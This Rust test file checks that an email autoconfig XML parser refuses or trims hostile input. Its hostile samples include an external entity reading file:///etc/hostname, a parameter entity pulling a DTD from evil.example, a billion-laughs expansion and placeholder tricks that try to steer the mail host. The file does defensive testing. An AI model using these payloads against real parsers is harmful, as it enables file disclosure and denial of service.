//! The autoconfig parser against hostile and broken documents: each is refused with a typed
//! error (`AUTOCONFIG_*`) or trimmed with a typed diagnostic, and the rest of the document is
//! used. Also the two format versions (1.1 as the ISPDB uses it, the draft's 1.2).

#![cfg(feature = "autoconfig")]
#![allow(clippy::unwrap_used, reason = "a failing unwrap is a failing test")]

use mailsrv::autoconfig::{
    AUTOCONFIG_MAX_BYTES, AUTOCONFIG_MAX_DEPTH, AUTOCONFIG_MAX_DOMAINS, AUTOCONFIG_MAX_SERVERS,
    Authentication, AutoconfigIssue, Direction,
};
use mailsrv::{Autoconfig, EmailAddress, ErrorCode, Security};

fn alice() -> EmailAddress {
    EmailAddress::parse("alice@example.net").unwrap()
}

fn parse(xml: &str) -> Result<Autoconfig, ErrorCode> {
    Autoconfig::parse(xml.as_bytes(), &alice()).map_err(|e| e.code())
}

fn refused(xml: &[u8]) -> ErrorCode {
    Autoconfig::parse(xml, &alice()).unwrap_err().code()
}

/// A 1.1 document with the given provider body.
fn doc(body: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<clientConfig version=\"1.1\">\
         <emailProvider id=\"example.net\"><domain>example.net</domain>{body}</emailProvider>\
         </clientConfig>"
    )
}

/// An IMAP section with the given host, port and socketType.
fn imap(host: &str, port: &str, socket: &str) -> String {
    format!(
        "<incomingServer type=\"imap\"><hostname>{host}</hostname><port>{port}</port>\
         <socketType>{socket}</socketType><authentication>password-cleartext</authentication>\
         <username>%EMAILADDRESS%</username></incomingServer>"
    )
}

/// A usable SMTP section, so that each test also sees that the rest is used.
const GOOD_SMTP: &str = "<outgoingServer type=\"smtp\"><hostname>smtp.example.net</hostname>\
    <port>465</port><socketType>SSL</socketType><username>%EMAILLOCALPART%</username>\
    </outgoingServer>";

fn codes(config: &Autoconfig) -> Vec<AutoconfigIssue> {
    config.diagnostics.iter().map(|d| d.code).collect()
}

/// Parses a document whose one IMAP section is broken: it is dropped with `code`, naming
/// incoming section 1, and the SMTP section is still used.
fn dropped_with(imap_section: &str, code: AutoconfigIssue) {
    let config = parse(&doc(&format!("{imap_section}{GOOD_SMTP}"))).unwrap();
    assert!(config.incoming.is_empty(), "{imap_section}: {config:?}");
    assert_eq!(config.outgoing.len(), 1, "{imap_section}");
    let d = config
        .diagnostics
        .iter()
        .find(|d| d.code == code)
        .unwrap_or_else(|| panic!("{imap_section}: no {code:?} in {:?}", config.diagnostics));
    let section = d.section.unwrap();
    assert_eq!((section.direction, section.index), (Direction::Incoming, 1));
}

// ---- the format ----------------------------------------------------------------------------

#[test]
fn d25_a_1_1_document_gives_its_servers_in_document_order_with_everything_substituted() {
    let body = format!(
        "<displayName>Mail for %EMAILDOMAIN%</displayName>\
         <domain>Example.ORG</domain>\
         {}<outgoingServer type=\"smtp\"><hostname>smtp.%EMAILDOMAIN%</hostname><port>587</port>\
         <socketType>STARTTLS</socketType><authentication>OAuth2</authentication>\
         <authentication>password-encrypted</authentication>\
         <username>%EMAILLOCALPART%+%EMAILLOCALPART%@%EMAILDOMAIN%</username></outgoingServer>\
         {}<incomingServer type=\"pop3\"><hostname>pop.example.net</hostname><port>110</port>\
         <socketType>plain</socketType><authentication>none</authentication></incomingServer>",
        imap("imap.%EMAILDOMAIN%", " 993 ", "SSL"),
        imap("imap2.example.net", "143", "STARTTLS"),
    );
    let config = parse(&doc(&body)).unwrap();
    assert_eq!(config.version.as_deref(), Some("1.1"));
    assert_eq!(config.provider_id.as_deref(), Some("example.net"));
    assert_eq!(config.display_name.as_deref(), Some("Mail for example.net"));
    assert_eq!(config.domains, ["example.net", "example.org"]);
    let incoming: Vec<_> = config
        .incoming
        .iter()
        .map(|s| {
            (
                s.protocol.as_str(),
                s.host.as_str(),
                s.port,
                s.security,
                s.section,
            )
        })
        .collect();
    assert_eq!(
        incoming,
        [
            ("imap", "imap.example.net", 993, Security::ImplicitTls, 1),
            ("imap", "imap2.example.net", 143, Security::Starttls, 2),
            ("pop3", "pop.example.net", 110, Security::Cleartext, 3),
        ]
    );
    assert_eq!(
        config.incoming[0].username.as_deref(),
        Some("alice@example.net")
    );
    assert_eq!(config.incoming[2].username, None);
    assert_eq!(config.incoming[2].authentication, [Authentication::None]);
    let smtp = &config.outgoing[0];
    assert_eq!(smtp.host, "smtp.example.net");
    assert_eq!(smtp.username.as_deref(), Some("alice+alice@example.net"));
    assert_eq!(
        smtp.authentication,
        [Authentication::OAuth2, Authentication::PasswordEncrypted]
    );
    assert!(config.diagnostics.is_empty(), "{:?}", config.diagnostics);
    let json = serde_json::to_value(&config).unwrap();
    assert_eq!(json["outgoing"][0]["security"], "starttls");
    assert_eq!(
        json["outgoing"][0]["authentication"][1],
        "password-encrypted"
    );
    assert_eq!(json["incoming"][0]["security"], "implicit-tls");
}

#[test]
fn d25_a_1_2_document_ignores_what_it_does_not_know_and_reads_url_types() {
    let xml = r#"<clientConfig version="1.2">
      <emailProvider id="example.net">
        <domain>example.net</domain>
        <domain purpose="mx">mx.example-hoster.com</domain>
        <futureElement><nested>x</nested></futureElement>
        <incomingServer type="jmap">
          <url>https://jmap.%EMAILDOMAIN%/session?u=%EMAILLOCALPART%</url>
          <authentication system="sasl">scram-sha-256</authentication>
          <authentication system="http">Basic</authentication>
          <authentication>OAuth</authentication>
          <username>%EMAILADDRESS%</username>
          <somethingNew/>
        </incomingServer>
        <incomingServer type="imap" futureAttribute="1">
          <hostname>imap.example.net</hostname><port>993</port><socketType>SSL</socketType>
          <authentication>TLS-client-cert</authentication>
        </incomingServer>
        <calendar type="caldav"><url>https://dav.example.net/</url></calendar>
        <outgoingServer type="smtp">
          <hostname>smtp.example.net</hostname><port>465</port><socketType>SSL</socketType>
        </outgoingServer>
      </emailProvider>
      <clientConfigUpdate url="https://example.net/update.xml"/>
      <oAuth2><issuer>login.example.net</issuer><scope>mail offline</scope>
        <authURL>https://login.example.net/auth</authURL>
        <tokenURL>https://login.example.net/token</tokenURL>
        <clientID>any</clientID></oAuth2>
    </clientConfig>"#;
    let config = parse(xml).unwrap();
    assert_eq!(config.version.as_deref(), Some("1.2"));
    assert_eq!(config.mx_domains, ["mx.example-hoster.com"]);
    let jmap = &config.incoming[0];
    assert_eq!(
        (
            jmap.protocol.as_str(),
            jmap.host.as_str(),
            jmap.port,
            jmap.security
        ),
        ("jmap", "jmap.example.net", 443, Security::ImplicitTls)
    );
    assert_eq!(
        jmap.url.as_deref(),
        Some("https://jmap.example.net/session?u=alice")
    );
    assert_eq!(
        jmap.authentication,
        [
            Authentication::Sasl("SCRAM-SHA-256".into()),
            Authentication::Http("Basic".into()),
            Authentication::OAuth2
        ]
    );
    assert_eq!(jmap.mail_protocol(), None);
    assert_eq!(
        config.incoming[1].authentication,
        [Authentication::TlsClientCert]
    );
    assert_eq!(config.outgoing.len(), 1);
    let oauth = config.oauth2.unwrap();
    assert_eq!(oauth.issuer, "login.example.net");
    assert_eq!(
        oauth.token_url.as_deref(),
        Some("https://login.example.net/token")
    );
    assert_eq!(oauth.client_id.as_deref(), Some("any"));
    assert!(config.diagnostics.is_empty(), "{:?}", config.diagnostics);
}

#[test]
fn d25_a_document_without_valid_domain_or_servers_is_data_not_an_error() {
    let config = parse("<clientConfig><emailProvider/></clientConfig>").unwrap();
    assert!(config.incoming.is_empty() && config.outgoing.is_empty());
    assert_eq!(codes(&config), [AutoconfigIssue::NoDomain]);
}

// ---- DTDs and entities -----------------------------------------------------------------------

#[test]
fn d25_external_entities_are_refused_and_never_fetched() {
    let xml = "<?xml version=\"1.0\"?><!DOCTYPE clientConfig [\
        <!ENTITY host SYSTEM \"file:///etc/hostname\">]>\
        <clientConfig><emailProvider><incomingServer type=\"imap\">\
        <hostname>&host;</hostname></incomingServer></emailProvider></clientConfig>";
    assert_eq!(refused(xml.as_bytes()), ErrorCode::AutoconfigDoctype);
}

#[test]
fn d25_parameter_entities_are_refused() {
    let xml = "<!DOCTYPE clientConfig [<!ENTITY % remote SYSTEM \"https://evil.example/x.dtd\">\
        %remote;]><clientConfig><emailProvider/></clientConfig>";
    assert_eq!(refused(xml.as_bytes()), ErrorCode::AutoconfigDoctype);
}

#[test]
fn d25_entity_expansion_billion_laughs_is_refused() {
    let mut dtd = String::from("<!DOCTYPE clientConfig [<!ENTITY l0 \"lol\">");
    for i in 1..10 {
        let prev = format!("&l{};", i - 1).repeat(10);
        dtd.push_str(&format!("<!ENTITY l{i} \"{prev}\">"));
    }
    dtd.push_str("]>");
    let xml = format!(
        "{dtd}<clientConfig><emailProvider><displayName>&l9;</displayName></emailProvider></clientConfig>"
    );
    assert_eq!(refused(xml.as_bytes()), ErrorCode::AutoconfigDoctype);
}

#[test]
fn d25_any_doctype_is_refused_even_empty_lower_case_or_in_a_comment() {
    for xml in [
        "<!DOCTYPE clientConfig><clientConfig><emailProvider/></clientConfig>",
        "<!doctype clientConfig><clientConfig><emailProvider/></clientConfig>",
        "<clientConfig><!-- <!DOCTYPE x> --><emailProvider/></clientConfig>",
        "<clientConfig><emailProvider><![CDATA[<!ENTITY x \"y\">]]></emailProvider></clientConfig>",
    ] {
        assert_eq!(
            refused(xml.as_bytes()),
            ErrorCode::AutoconfigDoctype,
            "{xml}"
        );
    }
}

#[test]
fn d25_an_undeclared_entity_reference_is_malformed_and_predefined_ones_stay_text() {
    let xml = doc(&imap("&evil;", "993", "SSL"));
    assert_eq!(refused(xml.as_bytes()), ErrorCode::AutoconfigMalformed);
    // `&amp;` becomes `&`, which no host name holds.
    dropped_with(
        &imap("mail&amp;.example.net", "993", "SSL"),
        AutoconfigIssue::InvalidHost,
    );
    dropped_with(
        &imap("mail&#46;&#x2F;x", "993", "SSL"),
        AutoconfigIssue::InvalidHost,
    );
}

// ---- size and shape ------------------------------------------------------------------------

#[test]
fn d25_huge_documents_are_refused_before_parsing() {
    let filler = "<!-- padding -->".repeat(AUTOCONFIG_MAX_BYTES / 16 + 1);
    let xml = doc(&format!("{filler}{GOOD_SMTP}"));
    assert!(xml.len() > AUTOCONFIG_MAX_BYTES);
    assert_eq!(refused(xml.as_bytes()), ErrorCode::AutoconfigTooLarge);
    // At the cap it is read.
    let base = doc(GOOD_SMTP);
    let pad = AUTOCONFIG_MAX_BYTES - base.len() - "<!---->".len();
    let xml = doc(&format!("<!--{}-->{GOOD_SMTP}", "x".repeat(pad)));
    assert_eq!(xml.len(), AUTOCONFIG_MAX_BYTES);
    assert_eq!(parse(&xml).unwrap().outgoing.len(), 1);
}

#[test]
fn d25_deep_documents_are_refused() {
    let nest = |n: usize| format!("{}{}", "<x>".repeat(n), "</x>".repeat(n));
    // clientConfig and emailProvider are two levels.
    let ok = doc(&nest(AUTOCONFIG_MAX_DEPTH - 2));
    assert!(parse(&ok).is_ok());
    let deep = doc(&nest(AUTOCONFIG_MAX_DEPTH - 1));
    assert_eq!(parse(&deep).unwrap_err(), ErrorCode::AutoconfigTooLarge);
    let very_deep = doc(&nest(9000));
    assert_eq!(
        parse(&very_deep).unwrap_err(),
        ErrorCode::AutoconfigTooLarge
    );
}

#[test]
fn d25_too_many_nodes_are_refused() {
    let xml = doc(&"<a/>x".repeat(13_000));
    assert!(xml.len() <= AUTOCONFIG_MAX_BYTES);
    assert_eq!(parse(&xml).unwrap_err(), ErrorCode::AutoconfigTooLarge);
}

#[test]
fn d25_too_many_sections_or_domains_are_refused() {
    let servers = |n: usize| {
        (0..n)
            .map(|i| imap(&format!("imap{i}.example.net"), "993", "SSL"))
            .collect::<String>()
    };
    assert_eq!(
        parse(&doc(&servers(AUTOCONFIG_MAX_SERVERS)))
            .unwrap()
            .incoming
            .len(),
        AUTOCONFIG_MAX_SERVERS
    );
    assert_eq!(
        parse(&doc(&servers(AUTOCONFIG_MAX_SERVERS + 1))).unwrap_err(),
        ErrorCode::AutoconfigTooLarge
    );
    let domains = |n: usize| {
        (0..n)
            .map(|i| format!("<domain>d{i}.example</domain>"))
            .collect::<String>()
    };
    // `doc` adds one domain of its own.
    assert_eq!(
        parse(&doc(&domains(AUTOCONFIG_MAX_DOMAINS - 1)))
            .unwrap()
            .domains
            .len(),
        AUTOCONFIG_MAX_DOMAINS
    );
    assert_eq!(
        parse(&doc(&domains(AUTOCONFIG_MAX_DOMAINS))).unwrap_err(),
        ErrorCode::AutoconfigTooLarge
    );
}

#[test]
fn d25_wrong_roots_are_refused() {
    for xml in [
        "<html><body/></html>",
        "<emailProvider><domain>example.net</domain></emailProvider>",
        "<clientConfig version=\"1.1\"><domain>example.net</domain></clientConfig>",
        "<clientConfig><clientConfig><emailProvider/></clientConfig></clientConfig>",
        "<html><emailProvider><domain>example.net</domain></emailProvider></html>",
    ] {
        assert_eq!(
            parse(xml).unwrap_err(),
            ErrorCode::AutoconfigWrongRoot,
            "{xml}"
        );
    }
    for xml in [
        "",
        "   ",
        "{\"json\": true}",
        "<clientConfig>",
        "<a/><b/>",
        "<clientConfig><emailProvider></clientConfig>",
    ] {
        assert_eq!(
            parse(xml).unwrap_err(),
            ErrorCode::AutoconfigMalformed,
            "{xml:?}"
        );
    }
}

// ---- sections --------------------------------------------------------------------------------

#[test]
fn d25_bad_ports_drop_the_section() {
    for port in ["0", "65536", "-1", "99a", "", "0x3e1", "+993", "9 93"] {
        dropped_with(
            &imap("imap.example.net", port, "SSL"),
            AutoconfigIssue::InvalidPort,
        );
    }
    dropped_with(
        "<incomingServer type=\"imap\"><hostname>imap.example.net</hostname>\
         <socketType>SSL</socketType></incomingServer>",
        AutoconfigIssue::InvalidPort,
    );
    let config = parse(&doc(&imap("imap.example.net", "65535", "SSL"))).unwrap();
    assert_eq!(config.incoming[0].port, 65535);
}

#[test]
fn d25_bad_socket_types_drop_the_section_and_the_first_known_one_wins() {
    for socket in ["TLS", "ssl/tls", "", "implicit-tls"] {
        dropped_with(
            &imap("imap.example.net", "993", socket),
            AutoconfigIssue::UnknownSocketType,
        );
    }
    dropped_with(
        "<incomingServer type=\"imap\"><hostname>imap.example.net</hostname><port>993</port>\
         </incomingServer>",
        AutoconfigIssue::UnknownSocketType,
    );
    let xml = doc(
        "<incomingServer type=\"imap\"><hostname>imap.example.net</hostname><port>993</port>\
         <socketType>QUIC</socketType><socketType>SSL</socketType><socketType>plain</socketType>\
         </incomingServer>",
    );
    let config = parse(&xml).unwrap();
    assert_eq!(config.incoming[0].security, Security::ImplicitTls);
    assert_eq!(codes(&config), [AutoconfigIssue::UnknownSocketType]);
}

#[test]
fn d25_unknown_authentication_is_skipped_and_a_section_with_none_known_is_dropped() {
    let section = |auth: &str| {
        format!(
            "<incomingServer type=\"imap\"><hostname>imap.example.net</hostname><port>993</port>\
             <socketType>SSL</socketType>{auth}</incomingServer>"
        )
    };
    dropped_with(
        &section(
            "<authentication>magic</authentication><authentication system=\"x\">PLAIN</authentication>",
        ),
        AutoconfigIssue::UnknownAuthentication,
    );
    let config = parse(&doc(&section(
        "<authentication>magic</authentication><authentication>plain</authentication>\
         <authentication>password-cleartext</authentication><authentication>GSSAPI</authentication>",
    )))
    .unwrap();
    assert_eq!(
        config.incoming[0].authentication,
        [Authentication::PasswordCleartext, Authentication::Gssapi]
    );
    assert_eq!(codes(&config), [AutoconfigIssue::UnknownAuthentication]);
}

#[test]
fn d25_bad_host_names_drop_the_section() {
    for host in [
        "192.0.2.1",
        "[2001:db8::1]",
        "2001:db8::1",
        "https://imap.example.net/",
        "imap.example.net:993",
        "imap example.net",
        "alice@imap.example.net",
        "imap..example.net",
        "imap.example.net/x",
        "mäil.example.net",
        "",
        "%REALNAME%.example.net",
        "imap.%EMAILDOMAIN",
    ] {
        dropped_with(&imap(host, "993", "SSL"), AutoconfigIssue::InvalidHost);
    }
    dropped_with(
        "<incomingServer type=\"imap\"><port>993</port><socketType>SSL</socketType></incomingServer>",
        AutoconfigIssue::InvalidHost,
    );
    for url in [
        "https://192.0.2.1/jmap",
        "ftp://jmap.example.net/",
        "https://u@jmap.example.net/",
        "jmap.example.net",
    ] {
        dropped_with(
            &format!("<incomingServer type=\"imap\"><url>{url}</url></incomingServer>"),
            AutoconfigIssue::InvalidUrl,
        );
    }
    // Case and a trailing dot are normalised, as for SRV targets.
    let config = parse(&doc(&imap(" IMAP.Example.NET. ", "993", "SSL"))).unwrap();
    assert_eq!(config.incoming[0].host, "imap.example.net");
}

#[test]
fn d25_bad_types_drop_the_section() {
    for t in ["", "im ap", "imap/2", &"x".repeat(40)] {
        dropped_with(
            &format!(
                "<incomingServer type=\"{t}\"><hostname>imap.example.net</hostname><port>993</port>\
                 <socketType>SSL</socketType></incomingServer>"
            ),
            AutoconfigIssue::InvalidType,
        );
    }
}

// ---- placeholders ----------------------------------------------------------------------------

#[test]
fn d24_a_local_part_cannot_choose_the_host() {
    // The local part holds a placeholder and host-name metacharacters.
    let evil = EmailAddress::parse("%EMAILDOMAIN%.evil.example#@example.net").unwrap();
    let parse_for = |xml: &str| Autoconfig::parse(xml.as_bytes(), &evil).unwrap();
    for host in [
        "%EMAILLOCALPART%.example.net",
        "%EMAILLOCALPART%",
        "%EMAILADDRESS%",
        "x.%EMAILADDRESS%",
    ] {
        let config = parse_for(&doc(&format!("{}{GOOD_SMTP}", imap(host, "993", "SSL"))));
        assert!(config.incoming.is_empty(), "{host}: {config:?}");
        assert_eq!(
            config.diagnostics[0].code,
            AutoconfigIssue::UnsafePlaceholder,
            "{host}"
        );
    }
    let jmap = |url: &str| {
        doc(&format!(
            "<incomingServer type=\"jmap\"><url>{url}</url><username>%EMAILLOCALPART%</username>\
             </incomingServer>"
        ))
    };
    for url in [
        "https://%EMAILLOCALPART%.example.net/",
        "https://jmap.example.net:%EMAILADDRESS%/",
    ] {
        let config = parse_for(&jmap(url));
        assert!(config.incoming.is_empty(), "{url}");
        assert_eq!(
            config.diagnostics[0].code,
            AutoconfigIssue::UnsafePlaceholder,
            "{url}"
        );
    }
    // In a path it is percent-encoded, so it cannot add a query, fragment or path segment.
    let config = parse_for(&jmap("https://jmap.%EMAILDOMAIN%/u/%EMAILLOCALPART%"));
    assert_eq!(config.incoming[0].host, "jmap.example.net");
    assert_eq!(
        config.incoming[0].url.as_deref(),
        Some("https://jmap.example.net/u/%25EMAILDOMAIN%25.evil.example%23")
    );
    // The username takes the local part as text, never read again.
    assert_eq!(
        config.incoming[0].username.as_deref(),
        Some("%EMAILDOMAIN%.evil.example#")
    );
    // `%EMAILDOMAIN%` in a host name is the address's domain, already a valid host name.
    let config = parse_for(&doc(&imap("imap.%EMAILDOMAIN%", "993", "SSL")));
    assert_eq!(config.incoming[0].host, "imap.example.net");
}

#[test]
fn d24_xml_metacharacters_in_the_local_part_stay_text() {
    let odd = EmailAddress::parse("\"a<b>&c\"@example.net").unwrap();
    let config = Autoconfig::parse(
        doc(&imap("imap.%EMAILDOMAIN%", "993", "SSL")).as_bytes(),
        &odd,
    )
    .unwrap();
    assert_eq!(
        config.incoming[0].username.as_deref(),
        Some("\"a<b>&c\"@example.net")
    );
    assert_eq!(config.incoming[0].host, "imap.example.net");
}

#[test]
fn d24_a_stray_percent_in_a_username_is_kept_with_a_diagnostic() {
    let xml = doc(
        "<incomingServer type=\"imap\"><hostname>imap.example.net</hostname><port>993</port>\
         <socketType>SSL</socketType><username>%EMAILADDRESS</username></incomingServer>",
    );
    let config = parse(&xml).unwrap();
    assert_eq!(
        config.incoming[0].username.as_deref(),
        Some("%EMAILADDRESS")
    );
    assert_eq!(codes(&config), [AutoconfigIssue::UnknownPlaceholder]);
}

// ---- encodings -------------------------------------------------------------------------------

#[test]
fn d25_only_utf8_is_read() {
    let xml = doc(GOOD_SMTP);
    let utf16le: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(xml.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let err = Autoconfig::parse(&utf16le, &alice()).unwrap_err();
    assert_eq!(err.code(), ErrorCode::AutoconfigEncoding);
    assert!(err.message().contains("UTF-16 byte-order mark"), "{err}");
    let utf16be_no_bom: Vec<u8> = xml.encode_utf16().flat_map(u16::to_be_bytes).collect();
    assert_eq!(refused(&utf16be_no_bom), ErrorCode::AutoconfigEncoding);
    let latin1 = xml.replace("UTF-8", "ISO-8859-1");
    assert_eq!(refused(latin1.as_bytes()), ErrorCode::AutoconfigEncoding);
    let mut invalid = doc("<displayName>Caf\u{e9}</displayName>").into_bytes();
    let at = invalid
        .windows(2)
        .position(|w| w == "é".as_bytes())
        .unwrap();
    invalid.splice(at..at + 2, [0xE9]);
    assert_eq!(refused(&invalid), ErrorCode::AutoconfigEncoding);
    // A UTF-8 byte-order mark is skipped; no declaration means UTF-8.
    let bom: Vec<u8> = [0xEF, 0xBB, 0xBF].into_iter().chain(xml.bytes()).collect();
    assert_eq!(Autoconfig::parse(&bom, &alice()).unwrap().outgoing.len(), 1);
    let undeclared = xml.replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "");
    assert_eq!(parse(&undeclared).unwrap().outgoing.len(), 1);
    let crlf = xml.replace('\n', "\r\n").replace("><", ">\r\n<");
    assert_eq!(parse(&crlf).unwrap().outgoing.len(), 1);
}

// ---- duplicates ----------------------------------------------------------------------------

#[test]
fn d25_duplicates_are_dropped_with_a_diagnostic() {
    let same = imap("imap.example.net", "993", "SSL");
    let config = parse(&doc(&format!(
        "{same}{}{same}",
        imap("IMAP.example.net.", "993", "SSL")
    )))
    .unwrap();
    assert_eq!(config.incoming.len(), 1);
    assert_eq!(codes(&config), [AutoconfigIssue::DuplicateServer; 2]);
    assert_eq!(config.diagnostics[1].section.unwrap().index, 3);
    // The same host on another port or security is another server.
    let config = parse(&doc(&format!(
        "{same}{}",
        imap("imap.example.net", "143", "STARTTLS")
    )))
    .unwrap();
    assert_eq!(config.incoming.len(), 2);

    dropped_with(
        "<incomingServer type=\"imap\"><hostname>imap.example.net</hostname>\
         <hostname>evil.example</hostname><port>993</port><socketType>SSL</socketType></incomingServer>",
        AutoconfigIssue::AmbiguousSection,
    );
    dropped_with(
        "<incomingServer type=\"imap\"><hostname>imap.example.net</hostname><port>993</port>\
         <port>143</port><socketType>SSL</socketType></incomingServer>",
        AutoconfigIssue::AmbiguousSection,
    );

    let two_providers = "<clientConfig><emailProvider><domain>example.net</domain></emailProvider>\
        <emailProvider><domain>evil.example</domain></emailProvider></clientConfig>";
    let config = parse(two_providers).unwrap();
    assert_eq!(config.domains, ["example.net"]);
    assert_eq!(codes(&config), [AutoconfigIssue::DuplicateProvider]);

    let config = parse(&doc("<domain>EXAMPLE.net</domain><domain>1.2.3.4</domain>")).unwrap();
    assert_eq!(config.domains, ["example.net"]);
    assert_eq!(codes(&config), [AutoconfigIssue::InvalidDomain]);
}

// ---- OAuth2 --------------------------------------------------------------------------------

#[test]
fn d25_oauth2_is_passed_through_only_when_well_formed() {
    let with = |block: &str| {
        format!(
            "<clientConfig><emailProvider><domain>example.net</domain></emailProvider>{block}\
             </clientConfig>"
        )
    };
    let good = "<oAuth2><issuer>login.example.net</issuer><scope>a b</scope>\
        <authURL>https://login.example.net/a</authURL><tokenURL>https://login.example.net/t</tokenURL></oAuth2>";
    let config = parse(&with(&format!("{good}{good}"))).unwrap();
    let o = config.oauth2.as_ref().unwrap();
    assert_eq!(
        (o.issuer.as_str(), o.scope.as_deref()),
        ("login.example.net", Some("a b"))
    );
    assert_eq!(o.auth_url.as_deref(), Some("https://login.example.net/a"));
    assert_eq!(codes(&config), [AutoconfigIssue::DuplicateOAuth2]);
    for bad in [
        "<oAuth2><scope>a</scope></oAuth2>",
        "<oAuth2><issuer>192.0.2.1</issuer></oAuth2>",
        "<oAuth2><issuer>login.example.net</issuer><tokenURL>http://login.example.net/t</tokenURL></oAuth2>",
        "<oAuth2><issuer>login.example.net</issuer><authURL>https://%EMAILLOCALPART%.example/</authURL></oAuth2>",
    ] {
        let config = parse(&with(bad)).unwrap();
        assert!(config.oauth2.is_none(), "{bad}");
        assert_eq!(codes(&config), [AutoconfigIssue::InvalidOAuth2], "{bad}");
    }
}

#[test]
fn d25_diagnostics_name_the_reason() {
    let message = |section: &str| {
        let config = parse(&doc(section)).unwrap();
        assert!(config.incoming.is_empty(), "{section}");
        config.diagnostics[0].message.clone()
    };
    for host in ["%REALNAME%.example.net", "imap.%EMAILDOMAIN"] {
        let m = message(&imap(host, "993", "SSL"));
        assert!(m.contains("still holds a placeholder"), "{m}");
        assert!(m.starts_with("incomingServer 1 (imap): "), "{m}");
    }
    let m = message(
        "<incomingServer type=\"jmap\"><url>https://u@jmap.example.net/</url></incomingServer>",
    );
    assert!(m.contains("user information"), "{m}");
}

// ---- the shared fixture ----------------------------------------------------------------------

/// testdata/autoconfig/mixed.xml parses to testdata/autoconfig/mixed.json (pretty JSON with a
/// final newline), which the C and JS tests compare with their own output byte for byte.
/// `MAILSRV_UPDATE_EXPECTED=1` rewrites it (review the diff).
#[test]
fn d25_the_shared_fixture_parses_to_its_expected_json() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../testdata/autoconfig");
    let xml = std::fs::read(dir.join("mixed.xml")).unwrap();
    let config = Autoconfig::parse(&xml, &alice()).unwrap();
    let json = serde_json::to_string_pretty(&config).unwrap() + "\n";
    if std::env::var_os("MAILSRV_UPDATE_EXPECTED").is_some() {
        std::fs::write(dir.join("mixed.json"), &json).unwrap();
    }
    assert_eq!(
        json,
        std::fs::read_to_string(dir.join("mixed.json")).unwrap()
    );
    // What the fixture exists for, independently of the expected file.
    let hosts: Vec<_> = config.incoming.iter().map(|s| s.host.as_str()).collect();
    assert_eq!(hosts, ["imap.example.net", "jmap.example.net"]);
    assert_eq!(config.outgoing.len(), 1);
    assert_eq!(
        codes(&config),
        [
            AutoconfigIssue::InvalidDomain,
            AutoconfigIssue::UnsafePlaceholder,
            AutoconfigIssue::InvalidHost,
            AutoconfigIssue::InvalidPort,
            AutoconfigIssue::UnknownSocketType,
            AutoconfigIssue::UnknownAuthentication,
            AutoconfigIssue::DuplicateServer,
        ]
    );
}
